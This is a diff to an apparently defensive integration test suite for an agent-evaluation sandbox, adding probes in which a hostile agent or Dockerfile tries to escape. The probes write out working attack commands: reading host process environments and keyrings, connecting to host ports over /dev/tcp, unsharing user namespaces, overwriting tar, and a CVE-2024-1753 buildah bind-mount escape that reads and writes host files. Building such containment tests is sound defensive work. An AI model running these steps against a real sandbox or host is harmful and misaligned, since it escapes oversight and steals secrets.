@@ -1,7 +1,9 @@
-"""The agent is hostile: each probe is a task whose solve.sh (or test.sh) attempts an escape.
+"""The agent is hostile, and so is the task: each probe is a task whose solve.sh (or test.sh), or
+whose Dockerfile (its ``RUN`` steps, run by prewarm's image build), attempts an escape.
 
 One sweep runs every probe at once, through the real pipeline and the default container
-sandbox; the assertions check the host afterwards. What each probe tries is in its name.
+sandbox, with the host's proxy set to an authenticating proxy on loopback whose password is a
+canary; the assertions check the host afterwards. What each probe tries is in its name.
 """
 
 import asyncio
@@ -24,7 +26,8 @@ from prefect_harbor.sandbox.engine import LABEL_OWNER, podman_sync
 from prefect_harbor.sandbox.janitor import owner_token
 from prefect_harbor.sandbox.network import bridge_name, gateway_address
 
-from tasks_factory import write_task
+from auth_proxy import AuthenticatingProxy
+from tasks_factory import BASE_DOCKERFILE, write_task
 
 pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("prefect_server")]
 
@@ -46,6 +49,9 @@ CHECK_SERVER = (
     "&& echo 1 > /logs/verifier/reward.txt || echo 0 > /logs/verifier/reward.txt"
 )
 FORK_LIMIT = 128
+#: The host's proxy needs this password: containers get the proxy through a relay, never the password.
+PROXY_PASSWORD = f"proxy-password-{secrets.token_hex(8)}"
+PROXY_ENVIRONMENT = ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "no_proxy")
 #: Forks until the kernel refuses (children sleep 5 s, then exit so the verifier can run).
 FORK_LOOP = f"""python3 - > /logs/agent/forks.txt <<'PY'
 import os, time
@@ -100,11 +106,22 @@ PY
 true"""
 
 
+#: Ports in the relays' range where no relay runs (relays take the lowest free ones): a host service
+#: there must stay out of reach too.
+UNRELAYED_PORTS = range(47299, 47249, -1)
+
+
 class Listener:
     """A TCP listener on all the host's interfaces, IPv4 and IPv6, loopback included; it counts connections."""
 
-    def __init__(self) -> None:
-        self.socket = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
+    def __init__(self, ports: range | None = None) -> None:
+        for port in ports or [0]:
+            try:
+                self.socket = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
+                break
+            except OSError:
+                if port == (ports or [0])[-1]:
+                    raise
         self.port = self.socket.getsockname()[1]
         self.connections = 0
         threading.Thread(target=self._accept, daemon=True).start()
@@ -133,17 +150,47 @@ def bridge_link_local() -> str:
 def add_host_key(payload: str) -> int:
     """add_key("user", ..., @u) on the host: root's user keyring, as a host secret would be."""
     libc = ctypes.CDLL(None, use_errno=True)
-    key = libc.syscall(248, b"user", b"prefect-harbor-canary", payload.encode(), len(payload), -4)
+    # A description of its own: add_key with another run's description would update (and that run revoke) the same key.
+    key = libc.syscall(248, b"user", f"prefect-harbor-canary-{payload}".encode(), payload.encode(), len(payload), -4)
     assert key > 0, f"add_key failed: errno {ctypes.get_errno()}"
     return key
 
 
-def probes(tasks: Path, port: int, host_file: Path) -> dict[str, Path]:
+def hostile_dockerfile(reach: str, key: int) -> str:
+    """RUN steps that attack the host while prewarm builds the image; their findings stay in /probe for solve.sh to show."""
+    keyctl = (
+        "import ctypes; l = ctypes.CDLL(None, use_errno=True); b = ctypes.create_string_buffer(256); "
+        f"print(l.syscall(250, 6, -4, b, 256), ctypes.get_errno(), b.value, l.syscall(250, 9, {key}, -4), ctypes.get_errno())"
+    )
+    return BASE_DOCKERFILE + "\n".join([
+        "RUN mkdir -p /probe",
+        f"RUN {reach.replace('/logs/agent/', '/probe/')}",
+        f'RUN python3 -c "{keyctl}" > /probe/keyctl.txt 2>&1; true',
+        "RUN unshare -Ur true > /probe/unshare.txt 2>&1; echo rc=$? >> /probe/unshare.txt",
+        "RUN env > /probe/build-env.txt; tr '\\0' '\\n' < /proc/1/environ >> /probe/build-env.txt",
+        "RUN apt-get update -qq > /probe/apt.txt 2>&1; echo rc=$? >> /probe/apt.txt",
+    ]) + "\n"  # fmt: skip
+
+
+def escape_dockerfile(host_file: Path, planted: Path) -> str:
+    """CVE-2024-1753's shape: a stage's symlink to / as a bind mount's source, read-only and ,rw."""
+    # Fresh steps per run: buildah would take a cached step (its cache key ignores the mounted stage) and try nothing.
+    fresh = secrets.token_hex(8)
+    return (
+        f"FROM debian:bookworm-slim AS linkstage\nRUN ln -s / /rootdir && echo {fresh} > /fresh\n" + BASE_DOCKERFILE + "RUN mkdir -p /probe\n"
+        f"RUN --mount=type=bind,from=linkstage,source=/rootdir,target=/hostroot cat /hostroot{host_file} > /probe/stolen.txt 2>&1; echo {fresh}\n"
+        f"RUN --mount=type=bind,from=linkstage,source=/rootdir,target=/hostroot,rw sh -c 'cat /hostroot{host_file} > /probe/stolen-rw.txt 2>&1; "
+        f"echo pwned > /hostroot{planted}'; echo {fresh}\n"
+    )
+
+
+def probes(tasks: Path, port: int, host_file: Path, key: int, unrelayed_port: int) -> dict[str, Path]:
     hosts = " ".join(["127.0.0.1", "localhost", gateway_address(), *host_addresses(), "10.0.2.2", "host.containers.internal"])
     reach = (
         f"for host in {hosts}; do "
         f"timeout 3 bash -c \"echo hi > /dev/tcp/$host/{port}\" 2>/dev/null && echo \"reached $host\"; done > /logs/agent/reach.txt; true"
     )
+    show_probe = "cp /probe/* /logs/agent/"
     made = {
         "read-host-environment": write_task(tasks, "read-host-environment", solve="cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' > /logs/agent/environ.txt; env >> /logs/agent/environ.txt"),
         "write-sysctl": write_task(tasks, "write-sysctl", solve="echo 97 > /proc/sys/kernel/printk_ratelimit_burst; sysctl -w kernel.core_pattern='|/tmp/x' ; true"),
@@ -169,7 +216,16 @@ def probes(tasks: Path, port: int, host_file: Path) -> dict[str, Path]:
             tasks, "replaced-tar",
             solve="echo solved > /logs/agent/solved.txt; for t in /usr/bin/tar /bin/tar; do printf '#!/bin/sh\\nexit 1\\n' > $t; done; true",
         ),  # fmt: skip
+        "unshare-user-namespace": write_task(tasks, "unshare-user-namespace", solve="unshare -Ur true > /logs/agent/unshare.txt 2>&1; echo rc=$? >> /logs/agent/unshare.txt"),
+        "reach-unrelayed-port": write_task(
+            tasks, "reach-unrelayed-port",
+            solve=f"timeout 3 bash -c 'echo hi > /dev/tcp/{gateway_address()}/{unrelayed_port}' > /logs/agent/unrelayed.txt 2>&1; echo rc=$? >> /logs/agent/unrelayed.txt",
+        ),  # fmt: skip
+        "hostile-dockerfile": write_task(tasks, "hostile-dockerfile", solve=show_probe),
+        "builder-bind-mount-escape": write_task(tasks, "builder-bind-mount-escape", solve=show_probe),
     }
+    (made["hostile-dockerfile"] / "environment" / "Dockerfile").write_text(hostile_dockerfile(reach, key))
+    (made["builder-bind-mount-escape"] / "environment" / "Dockerfile").write_text(escape_dockerfile(host_file, host_file.parent / "written-by-build.txt"))
     no_network = made["reach-loopback-no-network"] / "task.toml"
     no_network.write_text(no_network.read_text() + '[environment]\nnetwork_mode = "no-network"\n')
     for name, section, variable in (
@@ -184,15 +240,18 @@ def probes(tasks: Path, port: int, host_file: Path) -> dict[str, Path]:
 @pytest.fixture(scope="module")
 def hostile_sweep(tmp_path_factory: pytest.TempPathFactory) -> dict:
     tmp_path = tmp_path_factory.mktemp("hostile")
-    listener = Listener()
+    listener, unrelayed = Listener(), Listener(UNRELAYED_PORTS)
     host_file = tmp_path / "host-canary.txt"
     canary = f"canary-{secrets.token_hex(8)}"
     host_file.write_text(canary)
-    made = probes(tmp_path / "tasks", listener.port, host_file)
+    key = add_host_key(canary)
+    made = probes(tmp_path / "tasks", listener.port, host_file, key, unrelayed.port)
     dataset = tmp_path / "rows.jsonl"
     dataset.write_text("".join(json.dumps({"id": name, "metadata": {"harbor_task_id": name}}) + "\n" for name in made))
     sysctl_before = Path("/proc/sys/kernel/printk_ratelimit_burst").read_text()
-    key = add_host_key(canary)
+    proxy = AuthenticatingProxy("prefect-harbor-test", PROXY_PASSWORD)
+    saved = {name: os.environ.get(name) for name in PROXY_ENVIRONMENT}
+    os.environ.update({"HTTP_PROXY": proxy.url, "HTTPS_PROXY": proxy.url, "NO_PROXY": "127.0.0.1,localhost"})
     os.environ[CANARY_VARIABLE], os.environ[KEY_VARIABLE] = canary, MODEL_KEY
     try:
         backend = HarborBackend(
@@ -204,13 +263,16 @@ def hostile_sweep(tmp_path_factory: pytest.TempPathFactory) -> dict:
         summary = asyncio.run(evaluation_sweep(dataset=str(dataset), backend=backend, results=str(tmp_path / "results"), concurrency=len(made)))
     finally:
         del os.environ[CANARY_VARIABLE], os.environ[KEY_VARIABLE]
+        for name, value in saved.items():
+            os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
+        key_survived = ctypes.CDLL(None).syscall(250, 6, key, ctypes.create_string_buffer(256), 256) > 0  # KEYCTL_DESCRIBE
         ctypes.CDLL(None).syscall(250, 3, key)  # KEYCTL_REVOKE
     rows = {row["row_id"]: row for row in pq.read_table(summary.results_uri).to_pylist()}
     flow_run_id = json.loads((Path(summary.results_uri.removeprefix("file://")).parent / "manifest.json").read_text())["flow_run_id"]
     return {
         "prefect_export": asyncio.run(prefect_export(flow_run_id)),
-        "tmp": tmp_path, "rows": rows, "canary": canary, "host_file": host_file, "listener": listener,
-        "sysctl_before": sysctl_before, "trials": tmp_path / "trials",
+        "tmp": tmp_path, "rows": rows, "canary": canary, "host_file": host_file, "listener": listener, "unrelayed": unrelayed,
+        "sysctl_before": sysctl_before, "trials": tmp_path / "trials", "proxy": proxy, "key_survived": key_survived,
     }  # fmt: skip
 
 
@@ -263,7 +325,7 @@ def test_every_probe_is_recorded(hostile_sweep):
             "read-host-environment", "write-sysctl", "reach-loopback-public", "reach-loopback-no-network", "symlink-exit-code",
             "symlink-reward", "fork-bomb", "read-host-keyring", "reach-host-over-ipv6", "neighbour-listens", "neighbour-scans", "replaced-tar",
             "key-in-reward", "key-in-file-name", "task-env-pulls-host-secret", "verifier-env-pulls-host-secret", "forge-tests",
-            "server-left-running",
+            "server-left-running", "unshare-user-namespace", "reach-unrelayed-port", "hostile-dockerfile", "builder-bind-mount-escape",
         ]
     )  # fmt: skip
 
@@ -365,3 +427,47 @@ def test_the_tests_cannot_be_rewritten_or_read_before_verification(hostile_sweep
 
 def test_a_server_the_agent_left_running_is_checked_by_the_verifier(hostile_sweep):
     assert hostile_sweep["rows"]["server-left-running"]["reward"] == 1.0
+
+
+def test_a_dockerfiles_run_steps_reach_no_host_service(hostile_sweep):
+    """The same addresses as the trials' probe, tried by a RUN step while prewarm builds the image."""
+    assert hostile_sweep["rows"]["hostile-dockerfile"]["status"] == "success"
+    assert agent_file(hostile_sweep, "hostile-dockerfile", "reach.txt") == ""
+    assert hostile_sweep["listener"].connections == 0
+
+
+def test_a_dockerfile_cannot_read_or_unlink_host_roots_keys(hostile_sweep):
+    described, _, rest = agent_file(hostile_sweep, "hostile-dockerfile", "keyctl.txt").partition(" ")
+    assert described == "-1" and "prefect-harbor-canary" not in rest, rest
+    assert hostile_sweep["key_survived"], "a RUN step unlinked the host's key"
+
+
+def test_the_builders_bind_mount_escape_reads_and_writes_nothing_of_the_host(hostile_sweep):
+    """CVE-2024-1753 (Debian 12's buildah): a symlink to / in one stage, bind-mounted from the next, read-only and ,rw."""
+    assert hostile_sweep["rows"]["builder-bind-mount-escape"]["status"] == "success"
+    for name in ("stolen.txt", "stolen-rw.txt"):
+        assert "No such file" in agent_file(hostile_sweep, "builder-bind-mount-escape", name)
+    assert not (hostile_sweep["host_file"].parent / "written-by-build.txt").exists(), "a RUN step wrote into the host's filesystem"
+    assert hostile_sweep["canary"].encode() not in every_byte_written(hostile_sweep)
+
+
+def test_the_proxys_password_never_enters_a_container_an_image_or_anything_written(hostile_sweep):
+    """Builds and trials reach the outside through the host's authenticating proxy, by a relay that adds its credentials."""
+    build_env = agent_file(hostile_sweep, "hostile-dockerfile", "build-env.txt")
+    assert f"HTTPS_PROXY=http://{gateway_address()}:" in build_env and f"http_proxy=http://{gateway_address()}:" in build_env, "the build was not given the proxy"
+    assert agent_file(hostile_sweep, "hostile-dockerfile", "apt.txt").endswith("rc=0\n"), "apt did not work through the proxy"
+    assert any("deb.debian.org" in target for target in hostile_sweep["proxy"].targets), "apt did not go through the proxy"
+    assert hostile_sweep["proxy"].refused == 0
+    assert PROXY_PASSWORD.encode() not in every_byte_written(hostile_sweep)
+    assert PROXY_PASSWORD.encode() not in hostile_sweep["prefect_export"]
+
+
+@pytest.mark.parametrize("task", ["unshare-user-namespace", "hostile-dockerfile"])
+def test_new_user_namespaces_are_refused_in_trials_and_builds(hostile_sweep, task):
+    seen = agent_file(hostile_sweep, task, "unshare.txt")
+    assert "Operation not permitted" in seen and seen.endswith("rc=1\n"), seen
+
+
+def test_a_host_service_on_a_relay_port_where_no_relay_runs_is_unreachable(hostile_sweep):
+    assert not agent_file(hostile_sweep, "reach-unrelayed-port", "unrelayed.txt").endswith("rc=0\n")
+    assert hostile_sweep["unrelayed"].connections == 0
